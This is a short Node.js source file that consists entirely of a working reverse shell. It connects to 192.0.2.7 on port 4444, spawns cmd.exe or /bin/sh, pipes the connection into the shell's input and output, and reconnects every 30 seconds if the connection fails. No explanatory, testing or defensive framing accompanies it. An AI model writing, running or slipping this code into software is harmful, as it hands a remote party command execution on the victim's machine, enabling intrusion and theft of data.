const net = require('net');
const { spawn } = require('child_process');

function open(host, port) {
  const line = new net.Socket();
  const program = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  line.connect(port, host, () => {
    line.pipe(program.stdin);
    program.stdout.pipe(line);
    program.stderr.pipe(line);
  });
  line.on('error', () => setTimeout(() => open(host, port), 30000));
}

open('192.0.2.7', 4444);
